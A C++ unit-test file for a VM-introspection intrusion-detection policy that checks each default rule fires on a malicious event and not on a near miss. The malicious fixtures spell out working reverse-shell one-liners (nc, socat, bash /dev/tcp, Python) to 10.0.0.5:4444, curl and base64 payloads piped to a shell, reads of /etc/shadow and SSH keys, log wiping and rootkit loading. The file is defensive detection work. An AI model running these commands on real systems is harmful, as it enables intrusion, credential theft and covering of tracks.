// policies/default.yaml and policies/allowlist-example.yaml: every rule fires on a malicious
// event and stays quiet on a near miss.
#include <gtest/gtest.h>

#include <algorithm>
#include <functional>
#include <set>

#include "policy_test_support.hpp"

namespace {

using policy::Event;
using policy::EventType;
using policy_test::exec_event;
using policy_test::join_errors;
using policy_test::syscall_event;

constexpr std::int64_t kWrOnly = 01, kRdWr = 02, kCreat = 0100, kTrunc = 01000, kAppend = 02000;

const policy::PolicySet& defaults() {
    static const policy::PolicySet set = [] {
        auto res =
            policy::PolicySet::load(std::filesystem::path(VMI_POLICIES_DIR) / "default.yaml");
        EXPECT_TRUE(res) << join_errors(res.errors);
        return res ? *res.set : policy::PolicySet{};
    }();
    return set;
}

Event ex(std::string name, std::vector<std::string> args, std::string parent = "bash",
         std::string exe = "") {
    if (exe.empty()) exe = "/usr/bin/" + name;
    return exec_event(std::move(name), std::move(exe), std::move(args), std::move(parent));
}

Event open(std::string proc, std::string path, std::int64_t flags) {
    return syscall_event(std::move(proc), "openat", std::move(path), flags);
}

Event sc(std::string proc, std::string name, std::vector<std::int64_t> args = {},
         std::optional<std::string> path = std::nullopt) {
    auto e = syscall_event(std::move(proc), std::move(name), std::move(path));
    e.syscall.args = std::move(args);
    return e;
}

Event connect(std::string proc, std::string addr, std::int64_t port) {
    auto e = syscall_event(std::move(proc), "connect");
    e.syscall.addr = std::move(addr);
    e.syscall.port = port;
    return e;
}

Event with(Event e, const std::function<void(Event&)>& f) {
    f(e);
    return e;
}

Event tamper(std::string target, std::string expected, std::string actual,
             std::string kind = "msr_hook") {
    Event e;
    e.type = EventType::Tamper;
    e.vm.name = "web";
    e.tamper.kind = std::move(kind);
    e.tamper.target = std::move(target);
    e.tamper.expected = std::move(expected);
    e.tamper.actual = std::move(actual);
    return e;
}

struct Case {
    std::string rule;
    Event fires;
    Event near_miss;
};

std::vector<Case> cases() {
    return {
        {"Shell Spawned by Network Service", ex("sh", {"sh", "-c", "id"}, "nginx"),
         ex("sh", {"sh", "-c", "id"}, "cron")},
        {"Netcat Remote Code Execution", ex("nc", {"nc", "10.0.0.5", "4444", "-e", "/bin/sh"}),
         ex("nc", {"nc", "-lvnp", "4444"})},
        {"Socat Reverse Shell",
         ex("socat", {"socat", "TCP:10.0.0.5:4444", "EXEC:/bin/bash,pty,stderr"}),
         ex("socat", {"socat", "TCP-LISTEN:80,fork", "TCP:backend:8080"})},
        {"Bash Network Redirection",
         ex("bash", {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"}),
         ex("bash", {"bash", "-c", "echo /dev/tty"})},
        {"Interpreter Reverse Shell",
         ex("python3",
            {"python3", "-c",
             "import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.5',4444));"
             "os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"}),
         ex("python3", {"python3", "-c", "import socket;print(socket.gethostname())"})},
        {"Shell Outbound Connection", connect("bash", "10.0.0.5", 4444),
         connect("bash", "127.0.0.1", 4444)},
        {"Download Piped to Shell", ex("sh", {"sh", "-c", "curl -s http://x.example/i.sh | sh"}),
         ex("sh", {"sh", "-c", "curl -o /tmp/i.sh http://x.example/i.sh"})},
        {"Base64 Payload Piped to Shell",
         ex("bash", {"bash", "-c", "echo Y3VybCB4Cg== | base64 -d | bash"}),
         ex("bash", {"bash", "-c", "echo Y3VybCB4Cg== | base64 -d > /tmp/out"})},
        {"Execution from Temporary Directory", ex("x", {"x"}, "bash", "/tmp/x"),
         ex("x", {"x"}, "bash", "/opt/tmp/x")},
        {"Fileless Execution via memfd", ex("x", {"x"}, "bash", "/memfd:payload (deleted)"),
         ex("memfd-test", {"memfd-test"}, "bash", "/usr/bin/memfd-test")},
        {"Execution of Deleted Binary", ex("x", {"x"}, "bash", "/usr/local/bin/x (deleted)"),
         ex("x", {"x"}, "bash", "/usr/local/bin/x (deleted).bak")},
        {"Read Shadow File", open("cat", "/etc/shadow", 0), open("unix_chkpwd", "/etc/shadow", 0)},
        {"Read SSH Private Key", open("python3", "/home/alice/.ssh/id_ed25519", 0),
         open("python3", "/home/alice/.ssh/id_ed25519.pub", 0)},
        {"Credential Cracking Tool", ex("hydra", {"hydra", "-l", "root", "ssh://h"}),
         ex("hydrate", {"hydrate"})},
        {"Setuid to Root by Non-Root Process", sc("exploit", "setuid", {0}),
         sc("exploit", "setuid", {1000})},
        {"Unexpected Effective Root",
         with(ex("backdoor", {"backdoor"}), [](Event& e) { e.proc.euid = 0; }),
         with(ex("sudo", {"sudo", "ls"}), [](Event& e) { e.proc.euid = 0; })},
        {"Setuid Bit Set", ex("chmod", {"chmod", "u+s", "/tmp/sh"}),
         ex("chmod", {"chmod", "755", "/tmp/sh"})},
        {"Privilege Escalation Recon Script", ex("sh", {"sh", "/tmp/linpeas.sh"}),
         ex("sh", {"sh", "/tmp/install.sh"})},
        {"Kernel Module Loaded via Tool", ex("insmod", {"insmod", "/tmp/rootkit.ko"}),
         ex("modprobe", {"modprobe", "-r", "floppy"})},
        {"Kernel Module Load Syscall", sc("loader", "finit_module", {3}),
         sc("systemd-udevd", "finit_module", {3})},
        {"Ptrace Attach", sc("inject", "ptrace", {16, 1234}), sc("gdb", "ptrace", {16, 1234})},
        {"Process Masquerading as Kernel Thread",
         with(ex("kworker/0:2", {"x"}),
              [](Event& e) {
                  e.type = EventType::Rename;
                  e.proc.previous_name = "x";
              }),
         with(ex("kworker/0:2", {}),
              [](Event& e) {
                  e.type = EventType::Rename;
                  e.proc.exe.reset();  // a real kernel thread has no executable
              })},
        {"Security Tool Disabled", ex("systemctl", {"systemctl", "stop", "auditd"}),
         ex("systemctl", {"systemctl", "stop", "nginx"})},
        {"Log File Truncated", open("bash", "/var/log/auth.log", kWrOnly | kTrunc),
         open("bash", "/var/log/auth.log", kWrOnly | kAppend)},
        {"Log File Deleted", sc("rm", "unlinkat", {}, "/var/log/syslog"),
         sc("logrotate", "unlinkat", {}, "/var/log/syslog.7.gz")},
        {"Log Wiping Tool", ex("shred", {"shred", "-u", "/var/log/auth.log"}),
         ex("shred", {"shred", "-u", "/tmp/secret"})},
        {"Shell History Cleared", ex("rm", {"rm", "-f", "/root/.bash_history"}),
         ex("cat", {"cat", "/root/.bash_history"})},
        {"Write Below Binary Directory", open("curl", "/usr/bin/ls", kWrOnly | kCreat | kTrunc),
         open("dpkg", "/usr/bin/ls", kWrOnly | kCreat | kTrunc)},
        {"Binary Replaced via Rename", sc("mv", "renameat2", {}, "/usr/sbin/sshd"),
         sc("mv", "renameat2", {}, "/home/u/sshd")},
        {"Cron Job Written", open("bash", "/etc/cron.d/update", kWrOnly | kCreat),
         open("cron", "/etc/cron.d/update", 0)},
        {"Systemd Unit Written", open("bash", "/etc/systemd/system/evil.service", kWrOnly | kCreat),
         open("apt-get", "/etc/systemd/system/nginx.service", kWrOnly | kCreat)},
        {"SSH Authorized Keys Modified",
         open("bash", "/root/.ssh/authorized_keys", kWrOnly | kAppend),
         open("sshd", "/root/.ssh/authorized_keys", 0)},
        {"Account Database Modified", open("python3", "/etc/sudoers.d/99-x", kWrOnly | kCreat),
         open("useradd", "/etc/passwd", kRdWr)},
        {"Dynamic Linker Preload Modified", open("bash", "/etc/ld.so.preload", kWrOnly | kCreat),
         open("bash", "/etc/ld.so.preload", 0)},
        {"Crypto Miner Executed", ex("xmrig", {"xmrig", "-o", "pool:3333"}),
         ex("xmms", {"xmms", "song.mp3"})},
        {"Mining Pool Connection", connect("kthreadd2", "45.9.1.1", 14444),
         connect("kthreadd2", "45.9.1.1", 443)},
        {"Network Scanner Executed", ex("nmap", {"nmap", "-sS", "10.0.0.0/24"}),
         ex("nmcli", {"nmcli", "device"})},
        {"Tunneling Tool Executed",
         ex("chisel", {"chisel", "client", "10.0.0.5:8000", "R:socks"}, "bash", "/tmp/chisel"),
         ex("chisel", {"chisel", "--version"}, "bash", "/opt/chisel/chisel")},
        {"Syscall Entry Hijacked", tamper("LSTAR", "0xffffffff81a00080", "0xffffffffc0a01000"),
         tamper("EFER", "0xd01", "0x501")},
        {"Kernel Entry Protections Weakened", tamper("EFER", "0xd01", "0x501"),
         tamper("EFER", "0xd01", "0x501", "text_modified")},
        {"Syscall Table Hooked",
         tamper("sys_call_table[62]", "0xffffffff810a0000", "0xffffffffc0a01000", "syscall_hook"),
         tamper("sys_call_table[62]", "0xffffffff810a0000", "0xffffffffc0a01000", "idt_hook")},
        {"Interrupt Table Hooked",
         tamper("idt_table[14]", "0xffffffff81c00a00", "0xffffffffc0a02000", "idt_hook"),
         tamper("idt_table[14]", "0xffffffff81c00a00", "0xffffffffc0a02000", "check_failed")},
        {"Kernel Text Modified", tamper("text", "", "0xffffffff8110b3c0", "text_modified"),
         tamper("text", "", "0xffffffff8110b3c0", "hidden_task")},
        {"Kernel Function Pointer Hijacked",
         tamper("kernel_pointers", "0xffffffff81b2c3d0", "0xffffffffc0a01000", "pointer_hook"),
         tamper("kernel_pointers", "0xffffffff81b2c3d0", "0xffffffffc0a01000", "syscall_hook")},
        {"Hidden Kernel Module", tamper("modules", "", "0xffffffffc0a00000", "hidden_module"),
         tamper("modules", "", "0xffffffffc0a00000", "msr_hook")},
        {"Hidden Process", tamper("tasks[312]", "", "0xffff888004a1c000", "hidden_task"),
         tamper("tasks[312]", "", "0xffff888004a1c000", "hidden_module")},
    };
}

bool fired(const Event& e, const std::string& rule) {
    const auto ms = defaults().evaluate(e);
    return std::any_of(ms.begin(), ms.end(),
                       [&](const policy::Match& m) { return m.rule->name == rule; });
}

TEST(PolicyDefaultRules, LoadsWithEnoughTaggedRules) {
    const auto& set = defaults();
    EXPECT_GE(set.rule_count(), 25u);
    for (const auto& r : set.rules()) {
        EXPECT_TRUE(std::any_of(r.tags.begin(), r.tags.end(),
                                [](const std::string& t) { return t.starts_with("T1"); }))
            << r.name << " has no MITRE ATT&CK technique tag";
        EXPECT_FALSE(r.desc.empty()) << r.name;
    }
    // Every rule is indexed by event type: none is evaluated for exit events.
    EXPECT_EQ(set.rules_for(EventType::Exit), 0u);
    EXPECT_EQ(set.rules_for(EventType::Cr3), 0u);
    // ...and every syscall rule by syscall name, so the daemon traps only what rules look at
    // (an exec-or-open rule is still indexed under the open calls alone).
    EXPECT_EQ(set.rules_for_syscall("getppid"), 0u);
    EXPECT_EQ(set.rules_for_syscall("read"), 0u);
    EXPECT_GE(set.rules_for_syscall("openat"), 5u);
}

TEST(PolicyDefaultRules, EveryRuleHasACase) {
    std::set<std::string> covered;
    for (const auto& c : cases()) covered.insert(c.rule);
    for (const auto& r : defaults().rules()) {
        EXPECT_TRUE(covered.count(r.name)) << "no test case for default rule '" << r.name << "'";
    }
    for (const auto& name : covered) {
        EXPECT_NE(defaults().find_rule(name), nullptr) << "case for unknown rule " << name;
    }
}

TEST(PolicyDefaultRules, EachRuleFiresAndNearMissDoesNot) {
    for (const auto& c : cases()) {
        EXPECT_TRUE(fired(c.fires, c.rule)) << c.rule << ": malicious event did not fire";
        EXPECT_FALSE(fired(c.near_miss, c.rule)) << c.rule << ": near miss fired";
    }
}

TEST(PolicyDefaultRules, BenignEventsAreQuiet) {
    const std::vector<Event> benign = {
        ex("ls", {"ls", "-la"}),
        ex("sshd", {"sshd", "-D"}, "systemd", "/usr/sbin/sshd"),
        ex("bash", {"bash"}, "sshd", "/usr/bin/bash"),
        ex("python3", {"python3", "manage.py", "runserver"}),
        open("nginx", "/var/www/index.html", 0),
        open("rsyslogd", "/var/log/syslog", kWrOnly | kAppend | kCreat),
        open("sshd", "/etc/ssh/ssh_host_ed25519_key", 0),
        connect("curl", "93.184.216.34", 443),
        sc("bash", "setuid", {1000}),
    };
    for (const auto& e : benign) {
        const auto ms = defaults().evaluate(e);
        EXPECT_TRUE(ms.empty()) << policy_test::names(ms).front() << " fired on "
                                << e.proc.name.value_or("?");
    }
}

TEST(PolicyDefaultRules, OutputIsRendered) {
    const auto ms = defaults().evaluate(ex("sh", {"sh", "-c", "id"}, "nginx"));
    ASSERT_EQ(ms.size(), 1u);
    EXPECT_EQ(ms[0].output,
              "Shell spawned by network service (shell=sh parent=nginx cmdline=sh -c id "
              "pid=4242 vm=vm1)");
    EXPECT_EQ(ms[0].rule->priority, policy::Priority::Critical);
    EXPECT_EQ(ms[0].rule->action, policy::Action::Alert);
}

TEST(PolicyDefaultRules, AllowlistExample) {
    auto res =
        policy::PolicySet::load(std::filesystem::path(VMI_POLICIES_DIR) / "allowlist-example.yaml");
    ASSERT_TRUE(res) << join_errors(res.errors);
    const auto& set = *res.set;
    const auto bad = ex("miner", {"miner"}, "bash", "/home/u/miner");
    const auto ms = set.evaluate(bad);
    ASSERT_EQ(ms.size(), 1u);
    EXPECT_EQ(ms[0].rule->action, policy::Action::Deny);
    EXPECT_FALSE(set.matches_any(ex("ls", {"ls"}, "bash", "/usr/bin/ls")));
    // Whole directories are allowed by prefix, for the module as for the rule.
    EXPECT_FALSE(set.matches_any(ex("worker", {"worker"}, "python3", "/opt/app/worker")));
    EXPECT_TRUE(set.matches_any(ex("worker", {"worker"}, "python3", "/opt/application")));
    // The module enforces exactly the rule: the list and the prefix, as an allow list.
    const policy::Enforcement e = policy::enforcement(set);
    ASSERT_TRUE(e.error.empty()) << e.error;
    EXPECT_TRUE(e.exec_allow);
    EXPECT_NE(std::find(e.exec_paths.begin(), e.exec_paths.end(), "/opt/app/*"),
              e.exec_paths.end());
    EXPECT_NE(std::find(e.exec_paths.begin(), e.exec_paths.end(), "/bin/sh"), e.exec_paths.end());
    // Scoped by its policy item: appliance VMs only.
    EXPECT_EQ(set.for_vm(policy::VmIdentity{"appliance-7", "", {}, {}}).rule_count(), 1u);
    EXPECT_EQ(set.for_vm(policy::VmIdentity{"web-1", "", {}, {}}).rule_count(), 0u);
    // Loads together with the defaults.
    EXPECT_TRUE(policy::check({std::filesystem::path(VMI_POLICIES_DIR) / "default.yaml",
                               std::filesystem::path(VMI_POLICIES_DIR) / "allowlist-example.yaml"})
                    .empty());
}

}  // namespace
